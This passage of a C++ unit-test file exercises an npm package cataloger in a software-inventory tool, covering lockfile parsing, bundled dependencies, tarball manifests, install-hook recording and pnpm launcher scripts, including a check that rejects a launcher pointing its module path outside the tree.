}

TEST_CASE("npm: a bundled package may differ from the lock that doesn't know it") {
  const Tree tree =
      npm()
          .file("yarn.lock", "a@1:\n  version \"1.0.0\"\nb@1:\n  version \"1.0.0\"\n")
          .file("node_modules/a/package.json", manifest("a", "1.0.0", R"("bundleDependencies": ["b"])"))
          .file("node_modules/a/node_modules/b/package.json", manifest("b", "2.0.0"))
          .build();
  CHECK(find_named(catalog_of(kNpmCataloger, tree), "b")->package.lock_status.empty());
}

TEST_CASE("npm: malformed locks are told, and the packages stay") {
  for (const std::string_view content : {"", "[]", "{\"packages\": {", "{\"packages\": {}} x"}) {
    CAPTURE(content);
    const Tree tree = npm()
                          .file("node_modules/p/package.json", manifest("p", "1.0.0"))
                          .file("package-lock.json", content)
                          .build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    CHECK(catalog.found.size() == 1);
    REQUIRE(catalog.diagnostics.size() == 1);
    CHECK(catalog.diagnostics[0].path == "package-lock.json");
  }
  // These readers take what they understand.
  for (const std::string_view content :
       {"", ":", "\":\n  version\n", "packages:\n  :\n    resolution: {", "  @:\n"}) {
    CAPTURE(content);
    const Tree tree = npm()
                          .file("node_modules/p/package.json", manifest("p", "1.0.0"))
                          .file("yarn.lock", content)
                          .file("pnpm-lock.yaml", content)
                          .build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    REQUIRE(catalog.found.size() == 1);
    CHECK(catalog.found[0].package.lock_status.empty());
  }
}

TEST_CASE("a tarball is the package that its manifest names, with all that lies in it") {
  const Tree tree =
      npm()
          .file("package/package.json",
                manifest("@acme/left", "1.2.0",
                         R"("main": "lib", "scripts": {"preinstall": "node setup.mjs"})"))
          .file("package/lib/index.js", "code")
          .file("package/test/fixture/package.json", manifest("fixture", "9.9.9"))
          .file("package/npm-shrinkwrap.json",
                R"({"lockfileVersion": 3, "packages": {"": {"name": "left", "version": "1.1.0"}}})")
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(packages(catalog) == "package @acme/left@1.2.0\n");
  REQUIRE(catalog.found.size() == 1);
  const Package& package = catalog.found[0].package;
  CHECK(package.purl == "pkg:npm/%40acme/left@1.2.0");
  CHECK(joined(package.hooks) == "npm:preinstall=node setup.mjs");
  CHECK(joined(package.entry_points) == "package/lib/index.js");
  CHECK(package.lock_status.empty());  // what the project's lock says of the project is not of the package
  REQUIRE(package.properties.size() == 1);
  CHECK(package.properties[0] == Property{"stocktake:published", "tarball"});
  CHECK(locations(catalog, catalog.roots) == "package");
  CHECK(catalog.claims.size() == tree.entries.size());
  CHECK(catalog.diagnostics.empty());
}

TEST_CASE("a tarball's bundled dependencies are packages, and the ones it is loaded with") {
  const Tree tree = npm()
                        .file("package/package.json",
                              manifest("outer", "1.0.0",
                                       R"("dependencies": {"inner": "1"}, "bundleDependencies": ["inner"])"))
                        .file("package/node_modules/inner/package.json", manifest("inner", "1.0.1"))
                        .file("package/node_modules/inner/index.js", "code")
                        .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(packages(catalog) == "package outer@1.0.0\npackage/node_modules/inner inner@1.0.1\n");
  CHECK(claims_to(tree, catalog, "package/node_modules/inner/index.js") == "inner none 3");
  CHECK(claims_to(tree, catalog, "package/package.json") == "outer none 1");
  const FoundPackage* outer = find_named(catalog, "outer");
  REQUIRE(outer != nullptr);
  CHECK(locations(catalog, outer->dependencies) == "package/node_modules/inner");
  CHECK(locations(catalog, catalog.roots) == "package");
}

TEST_CASE("a project in the only folder of a tree is no published package") {
  const std::string cases[] = {
      manifest("app", "1.0.0", R"("private": true)"),
      R"({"name": "app"})",
      R"({"version": "1.0.0"})",
  };
  for (const std::string& text : cases) {
    CAPTURE(text);
    const Tree tree = npm().file("app/package.json", text).file("app/index.js", "code").build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    CHECK(catalog.found.empty());
    CHECK(catalog.claims.empty());
    CHECK(catalog.diagnostics.empty());
  }
  const Tree installed =
      npm()
          .file("app/package.json", manifest("app", "1.0.0", R"("dependencies": {"a": "1"})"))
          .file("app/node_modules/a/package.json", manifest("a", "1.0.0"))
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, installed);
  CHECK(packages(catalog) == "app/node_modules/a a@1.0.0\n");
  CHECK(locations(catalog, catalog.roots) == "app/node_modules/a");
}

TEST_CASE("what a script of pnpm starts is kept, unless one of them looks for modules in another tree") {
  const auto starts = [](const std::string& root) {
    const auto script = [](const std::string& place) {
      const std::string path = place + "/node_modules/.pnpm/a@1.0.0/node_modules";
      return R"sh(#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\,/,g')")

case `uname` in
    *CYGWIN*) basedir=`cygpath -w "$basedir"`;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH=")sh" +
             path + "\"\nelse\n  export NODE_PATH=\"" + path + R"sh(:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../a/cli.js" "$@"
else
  exec node  "$basedir/../a/cli.js" "$@"
fi
)sh";
    };
    const Tree tree =
        npm()
            .file("node_modules/.pnpm/a@1.0.0/node_modules/a/package.json", manifest("a", "1.0.0"))
            .file("node_modules/.pnpm/a@1.0.0/node_modules/a/cli.js", "")
            .link("node_modules/a", ".pnpm/a@1.0.0/node_modules/a")
            .file("node_modules/.bin/a", script("/home/me"))
            .file("node_modules/.bin/b", script(root))
            .build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    std::string all;
    for (const Catalog::Detail& one : catalog.details)
      all.append(tree.entries[one.entry].path).append("=").append(one.text).append(" ");
    return all;
  };
  CHECK(starts("/home/me") == "node_modules/.bin/a=cli.js node_modules/.bin/b=cli.js ");
  CHECK(starts("/tmp/evil").empty());
}

TEST_CASE("a package where the project's lock has none is contradicted, unless it was bundled") {
  const std::string lock =
      R"({"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0"}, "node_modules/c": {"version": "1.0.0"}}})";
  const Tree tree =
      TreeBuilder(kNpmCataloger)
          .file("package-lock.json", lock)
          .file("node_modules/a/package.json", R"({"name": "a", "version": "1.0.0"})")
          .file("node_modules/a/node_modules/b/package.json", R"({"name": "b", "version": "1.0.0"})")
          .file("node_modules/c/package.json",
                R"({"name": "c", "version": "1.0.0", "bundleDependencies": ["d"]})")
          .file("node_modules/c/node_modules/d/package.json", R"({"name": "d", "version": "1.0.0"})")
          .file("node_modules/a/dist/node_modules/f/package.json", R"({"name": "f", "version": "1.0.0"})")
          .file("other/node_modules/e/package.json", R"({"name": "e", "version": "1.0.0"})")
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  for (const char* name : {"a", "c", "d", "e", "f"}) {
    CAPTURE(name);
    CHECK(find_named(catalog, name)->package.lock_status == "");
  }
  CHECK(find_named(catalog, "b")->package.lock_status == "nothing of node_modules/a/node_modules/b");
}

}  // namespace stocktake
